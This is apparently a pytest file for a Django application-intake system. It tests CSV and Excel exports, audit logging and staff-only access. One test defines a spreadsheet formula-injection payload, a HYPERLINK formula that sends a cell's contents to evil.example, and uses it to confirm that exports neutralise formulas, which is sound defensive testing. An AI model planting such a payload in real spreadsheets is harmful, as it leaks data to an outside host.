"""The table of a call's applications: a row each, in words, and nothing that a spreadsheet runs."""

import csv
import io
import zipfile
from xml.etree import ElementTree

import pytest
from django.test import Client
from django.urls import reverse

from applications.exports import csv_of, excel_of
from applications.models import EligibilityAnswer, EligibilityQuestion, Format, Part
from applications.selectors import export_name
from applications.services import answer, request_correction, screen, start_application, submit
from core import clock
from core.models import AuditEntry
from practices.services import update_practice
from tests.applications.conftest import APRIL
from tests.conftest import make_practice, make_user

MAY = APRIL.replace(month=5, day=10)
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")'
SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def table(call):
    return list(csv.DictReader(io.StringIO(csv_of(call).decode("utf-8-sig"))))


def sheets(content):
    """The cells of each sheet of a workbook, as their texts; and the parts of the file."""
    book = zipfile.ZipFile(io.BytesIO(content))
    found = {}
    for number, name in ((1, "Applications"), (2, "Codebook")):
        root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
        found[name] = [["".join(cell.itertext()) for cell in row.iter(f"{SPACE}c")] for row in root.iter(f"{SPACE}row")]
    return found, {name: book.read(name).decode() for name in book.namelist() if name.endswith(".xml")}


def test_a_draft_and_what_was_sent(complete):
    question = EligibilityQuestion.objects.create(
        call=complete.call,
        code="physician",
        text="A physician?",
        position=1,
        choices=[{"code": "y", "label": "Yes", "fits": True}],
    )
    EligibilityAnswer.objects.create(application=complete.application, question=question, choice="y")
    draft = start_application(
        complete.call,
        practice=make_practice("Second"),
        team_name="Drafting",
        leader=complete.stranger,
        by=complete.stranger,
    )
    with clock.at(MAY):
        submit(complete.application, by=complete.leader, arrived_at=MAY)
        screen(complete.application, verdict="question", text="Which site?", by=complete.staff)
        request_correction(complete.application, section="time", message="More", by=complete.staff)
    first, second = table(complete.call)
    expected = {
        "application": str(complete.application.public_id),
        "state": "Submitted",
        "arrived_utc": "2024-05-10T15:00:00+00:00",
        "arrived_local": "2024-05-10T11:00:00-04:00",
        "zone": "America/New_York (Eastern)",
        "late": "yes",
        "submissions": "1",
        "open_corrections": "1",
        "verdict": "To be clarified",
        "verdict_text": "Which site?",
        "practice_name": "Synthetic Oncology Practice",
        "practice_setting": "Community practice",
        "practice_oncologists": "6",
        "team": "Applicants",
        "leader": "Lena Leader",
        "leader_profession": "Physician (MD or DO)",
        "leader_member_number": "000001",
        "leader_membership_confirmed": "no",
        "core_team": "Lena Leader; Cora Colleague",
        "core_team_size": "2",
        "larger_team_size": "1",
        "sponsor": "Sam Sponsor",
        "letter": "Not asked for",
        "sessions_confirmed": "2",
        "eligibility.physician": "Yes",
        "problem.problem": "Delays",
        "problem.aim": "",
        "time.hours": "2",
    }
    assert {name: first[name] for name in expected} == expected
    assert (second["application"], second["state"], second["late"], second["arrived_utc"]) == (
        str(draft.public_id),
        "Draft",
        "",
        "",
    )


def test_what_was_sent_is_told_as_it_was_sent(complete):
    submit(complete.application, by=complete.leader, arrived_at=APRIL)
    update_practice(complete.practice, by=complete.staff, oncologists=99)
    assert table(complete.call)[0]["practice_oncologists"] == "6"


def test_a_draft_is_told_as_it_stands(complete):
    answer(complete.application, {complete.question("hours").pk: 9}, by=complete.leader)
    row = table(complete.call)[0]
    assert (row["time.hours"], row["problem.problem"], row["state"]) == ("9", "Delays", "Draft")


def test_no_cell_is_run_as_a_formula(complete):
    answer(complete.application, {complete.question("problem").pk: FORMULA}, by=complete.leader)
    assert table(complete.call)[0]["problem.problem"] == f"'{FORMULA}"
    found, parts = sheets(excel_of(complete.call))
    column = found["Applications"][0].index("problem.problem")
    assert FORMULA in found["Applications"][1]
    assert column
    for name, text in parts.items():
        assert "<f>" not in text, name
        assert "<hyperlink" not in text, name
    assert 'quotePrefix="1"' in parts["xl/styles.xml"]


def test_the_codebook_says_what_each_column_is(complete):
    found, _ = sheets(excel_of(complete.call))
    assert [row[0] for row in found["Codebook"][1:]] == found["Applications"][0]
    lines = {row[0]: row[1] for row in found["Codebook"]}
    assert lines["problem.problem"] == "Which problem will you solve?"
    assert lines["late"] == "Whether it arrived after the deadline"


def test_each_part_has_a_name_of_its_own(complete):
    with clock.at(APRIL):
        names = {export_name(complete.call, part, Format.CSV, now=clock.now()) for part in Part}
    day = f"{APRIL:%Y-%m-%d}.csv"
    assert names == {f"applications-test-cohort-{part}{day}" for part in ("", "received-", "drafts-")}


@pytest.mark.parametrize(
    ("page", "kind"),
    [
        ("intake_excel", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("intake_csv", "text/csv; charset=utf-8"),
    ],
)
def test_taking_it_out_is_written_down(complete, settings, page, kind):
    settings.STAFF_TWO_FACTORS_REQUIRED = False
    url = reverse(f"admin:applications_call_{page}", args=[complete.call.pk])
    client = Client()
    client.force_login(complete.staff)
    assert client.get(url).status_code == 405
    answered = client.post(url)
    assert (answered.status_code, answered["Content-Type"]) == (200, kind)
    assert "attachment; filename=" in answered["Content-Disposition"]
    entry = AuditEntry.objects.get(verb="call.exported")
    assert (entry.actor_id, entry.fields[0]) == (complete.staff.pk, "applications")


def test_nobody_else_takes_it(complete, settings):
    settings.STAFF_TWO_FACTORS_REQUIRED = False
    for user in (complete.leader, complete.coach, complete.leadership):
        client = Client()
        client.force_login(user)
        assert client.post(reverse("admin:applications_call_intake_csv", args=[complete.call.pk])).status_code == 302
    assert not AuditEntry.objects.filter(verb="call.exported").exists()


def test_rows_in_several_chunks_stand_once_each(complete, monkeypatch):
    monkeypatch.setattr("applications.exports.table.AT_ONCE", 2)
    for number in range(4):
        leader = make_user(f"Further Leader{number}")
        start_application(complete.call, practice=complete.practice, team_name=f"T{number}", leader=leader, by=leader)
    assert [row["team"] for row in table(complete.call)] == ["Applicants", "T0", "T1", "T2", "T3"]
